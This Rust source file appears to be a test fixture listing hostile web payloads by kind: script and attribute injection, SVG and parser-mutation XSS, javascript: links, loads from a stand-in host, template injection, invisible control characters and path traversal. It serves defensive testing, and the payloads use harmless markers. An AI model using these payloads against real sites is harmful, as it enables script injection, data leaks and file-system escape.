//! What a hostile page may contain, by what it hopes to be read as.
//!
//! Each would set `window.pwned`, open a dialog or ask another host if a browser ran it, print
//! 1337 if a template was made of it, write a file whose name has `escaped` in it if a path was, or
//! leave an unseen character in the page.

/// The payloads of one kind.
pub struct Kind {
    /// Names the kind in addresses and failures.
    pub name: &'static str,
    pub payloads: &'static [&'static str],
}

pub const KINDS: [Kind; 9] = [
    Kind {
        name: "scripts",
        payloads: &[
            "<script>window.pwned = 1</script>",
            "<ScRiPt src=//elsewhere.example/a.js></sCrIpT>",
            "</title></textarea></style></script><script>alert(1)</script>",
            "<img src=x onerror='window.pwned = 2'>",
            "<details open ontoggle=window.pwned=3>",
            "<body onload=window.pwned=4><input autofocus onfocus=window.pwned=5>",
            "<iframe srcdoc=\"<script>parent.pwned = 6</script>\"></iframe>",
            "&lt;script&gt;window.pwned = 7&lt;/script&gt;",
            "&#60;img src=x onerror=window.pwned=8&#62;",
        ],
    },
    Kind {
        name: "attributes",
        payloads: &[
            "\" onmouseover=\"window.pwned = 10\" autofocus onfocus=\"window.pwned = 11",
            "' onfocus='window.pwned = 12' x='",
            "\"><script>window.pwned = 13</script><p x=\"",
            "` onload=`window.pwned=14`",
            "&quot; onclick=&quot;window.pwned = 15",
            "\" style=\"background:url(//elsewhere.example/s)\" data-x=\"",
        ],
    },
    Kind {
        name: "svg",
        payloads: &[
            "<svg onload='window.pwned = 20'>",
            "<svg><script>window.pwned = 21</script></svg>",
            "<svg><animate onbegin=window.pwned=22 attributeName=x dur=1s></svg>",
            "<svg><a xlink:href=\"javascript:window.pwned=23\"><text y=9>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='window.pwned=24'/>#x\"/></svg>",
            "<svg><foreignObject><img src=x onerror=window.pwned=25></foreignObject></svg>",
        ],
    },
    Kind {
        name: "mutations",
        payloads: &[
            "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=30>\">",
            "<template><script>window.pwned = 31</script></template>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=32&gt;\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=33>\">",
            "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=window.pwned=34></annotation-xml></math>",
            "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=window.pwned=35 src=1>\">",
            "<!--><img src=x onerror=window.pwned=36>-->",
            "<![CDATA[><img src=x onerror=window.pwned=37>]]>",
            "<plaintext><xmp><listing><select><option>",
        ],
    },
    Kind {
        name: "addresses",
        payloads: &[
            "[а](javascript:window.pwned=40)",
            "[б](<java\tscript:window.pwned=41>)",
            "[в](&#106;avascript&colon;window.pwned=42)",
            "[г](JaVaScRiPt:window.pwned=43)",
            "[д](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[е](vbscript:msgbox) [ё](\\\\elsewhere.example/x) [ж](//elsewhere.example/x)",
            "![з](https://elsewhere.example/p.png \"\\\" onerror=window.pwned=44\")",
            "![и](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E) <javascript:window.pwned=45>",
            "<a href=\"\u{1}javascript:window.pwned=46\">к</a><a href=' javascript&Tab;:alert(1)'>л</a>",
            "[м]: javascript:window.pwned=47\n\n[м] [н][м]",
        ],
    },
    Kind {
        name: "requests",
        payloads: &[
            "<img src=//elsewhere.example/i.png srcset=\"//elsewhere.example/j.png 2x\">",
            "<link rel=stylesheet href=//elsewhere.example/c.css><style>@import '//elsewhere.example/d.css'</style>",
            "<meta http-equiv=refresh content=\"0;url=//elsewhere.example/\">",
            "<base href=//elsewhere.example/><object data=//elsewhere.example/o></object>",
            "<form action=//elsewhere.example/><button autofocus>x</button></form>",
            "<video poster=//elsewhere.example/v src=//elsewhere.example/w autoplay></video>",
            "<link rel=dns-prefetch href=//elsewhere.example><link rel=preload as=image href=//elsewhere.example/l>",
        ],
    },
    Kind {
        name: "templates",
        payloads: &[
            "{{ 7 * 191 }}",
            "{% raw %}{{ 7 * 191 }}{% endraw %}",
            "{% if true %}{{ 1336 + 1 }}{% endif %}",
            "{{ \"<script>window.pwned = 60</script>\" | safe }}",
            "{% include \"base.html\" %}{% extends \"base.html\" %}",
            "{# {{ 7 * 191 }} #}{{ t(key=\"title.notes\") }}{{ __tera_context }}",
            "${7 * 191} #{7 * 191} <%= 7 * 191 %>",
        ],
    },
    Kind {
        name: "unseen",
        payloads: &[
            "\u{202e}gpj.exe",
            "раз\u{202d}два\u{202c}три",
            "\u{2067}\u{2066}без конца",
            "\u{202b}\u{202b}\u{202a}конец\u{202c}",
            "&#x202e;сущность&#8238;&#27;]0;owned&#7;",
            "\u{7}\u{1b}]0;owned\u{7}\u{1b}[31m\u{7f}\u{9b}2J",
            "\u{b}\u{c}\u{1e}\u{85}",
        ],
    },
    Kind {
        name: "paths",
        payloads: &[
            "../../escaped",
            "..\\..\\escaped",
            "%2e%2e%2f%2e%2e%2fescaped",
            "/tmp/escaped",
            "C:\\escaped",
            "....//escaped/..;/escaped",
            "escaped/../../../escaped.html",
            ".git/escaped CNAME",
        ],
    },
];
